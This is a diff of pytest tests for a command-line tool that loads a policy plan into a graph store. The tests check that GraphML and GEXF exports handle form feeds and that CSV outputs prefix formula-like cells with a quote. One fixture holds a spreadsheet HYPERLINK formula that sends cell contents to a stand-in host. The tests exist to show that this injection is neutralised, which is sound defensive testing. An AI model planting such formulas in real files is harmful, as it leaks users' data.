@@ -1,5 +1,6 @@
 """Issue 16: inputs that once hung, crashed or were skipped silently now give one clear line and exit 1."""
 
+import json
 import os
 import shutil
 import subprocess
@@ -138,3 +139,91 @@ def test_read_only_console_refuses_terminate_load_csv_and_acting_procedures(neo4
         held.close()
         driver.close()
         server.shutdown()
+
+
+# -- items 9, 10: exports and CSV output -------------------------------------------------------------
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1)'
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory):
+    """The 2023 plan with a form feed inside task 1 (pdftotext writes one at each page break) and a formula
+    opening task 2's text; everything else as bundled."""
+    folder = tmp_path_factory.mktemp("hostile")
+    text = PLAN_2023.read_text(encoding="utf-8")
+    text = text.replace("创新科技项目组织方式,", "创新科技项目组织方式,\f", 1).replace("\t2\t完善", f"\t2\t{FORMULA}完善", 1)
+    plan = folder / "plan.txt"
+    plan.write_text(text, encoding="utf-8")
+    store = folder / "store.json"
+    result = CliRunner().invoke(cli, ["--store", str(store), "load", str(plan)])
+    assert result.exit_code == 0, result.output
+    tasks = json.loads(CliRunner().invoke(cli, ["--store", str(store), "tasks", "--format", "json"]).output)
+    assert "\f" in tasks[0]["text"] and tasks[1]["text"].startswith(FORMULA)  # the loader keeps both as written
+    return store, tasks
+
+
+@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
+def test_xml_exports_parse_with_a_form_feed_in_a_task(hostile_store, tmp_path, fmt):
+    import xml.etree.ElementTree as ET
+
+    import networkx as nx
+
+    store, tasks = hostile_store
+    out = tmp_path / f"graph.{fmt}"
+    result = CliRunner().invoke(cli, ["--store", str(store), "export", "--format", fmt, str(out)])
+    assert result.exit_code == 0, result.output
+    ET.parse(out)  # once: GraphML raised mid-write (a broken file left), GEXF wrote XML that did not parse
+    g = (nx.read_graphml if fmt == "graphml" else nx.read_gexf)(out)
+    texts = {a.get("text") for _n, a in g.nodes(data=True) if a.get("node_type") == "Task"}
+    assert tasks[0]["text"].replace("\f", "") in texts  # the form feed left out, nothing else changed
+    # 90 rows, rows 43 and 45 kept as parents of two parts each: 90 + 4 task nodes, as without the form feed
+    assert len([n for n, a in g.nodes(data=True) if a.get("node_type") == "Task"]) == 94
+    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]  # no temporary file left beside it
+
+
+def test_export_replaces_an_earlier_file_whole(hostile_store, tmp_path):
+    store, _tasks = hostile_store
+    out = tmp_path / "graph.graphml"
+    out.write_text("earlier export", encoding="utf-8")
+    out.chmod(0o644)
+    result = CliRunner().invoke(cli, ["--store", str(store), "export", "--format", "graphml", str(out)])
+    assert result.exit_code == 0, result.output
+    assert out.read_text(encoding="utf-8").startswith("<?xml")
+    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]
+    assert out.stat().st_mode & 0o777 == 0o666 & ~_umask()
+
+
+def _umask() -> int:
+    mask = os.umask(0)
+    os.umask(mask)
+    return mask
+
+
+def test_csv_cells_that_look_like_formulas_get_a_quote(hostile_store):
+    import csv
+    import io
+
+    store, tasks = hostile_store
+    output = CliRunner().invoke(cli, ["--store", str(store), "tasks", "--format", "csv"]).output
+    rows = list(csv.DictReader(io.StringIO(output)))
+    assert rows[1]["text"] == "'" + tasks[1]["text"]  # shown as text by a spreadsheet, not run
+    assert rows[0]["text"] == tasks[0]["text"]  # not a formula: as it is, form feed and all
+    assert rows[1]["line"] == str(tasks[1]["line"])  # numbers untouched
+
+
+def test_matrix_and_console_csv_are_neutralised_too(tmp_path):
+    """A unit written '+市科技局' (a stray plus sign in a unit list) reaches the matrix and the console's CSV
+    with a quote in front."""
+    text = PLAN_2023.read_text(encoding="utf-8").replace("\t市科技局\t市教育局\t", "\t+市科技局\t市教育局\t", 1)
+    plan = tmp_path / "plan.txt"
+    plan.write_text(text, encoding="utf-8")
+    store = tmp_path / "store.json"
+    assert CliRunner().invoke(cli, ["--store", str(store), "load", str(plan)]).exit_code == 0
+    units = CliRunner().invoke(cli, ["--store", str(store), "units", "--format", "json"]).output
+    [odd] = [u["name"] for u in json.loads(units) if u["name"].startswith("+")]
+    matrix = CliRunner().invoke(cli, ["--store", str(store), "coowners", "--matrix"]).output
+    header, *lines = matrix.splitlines()
+    assert f",'{odd}," in header + "," and any(line.startswith(f"'{odd},") for line in lines)
+    console = CliRunner().invoke(cli, ["--store", str(store), "cypher", "--format", "csv", "-e",
+                                       f"MATCH (u:Unit) WHERE u.name = '{odd}' RETURN u.name AS name"])
+    assert console.output == f"name\n'{odd}\n"
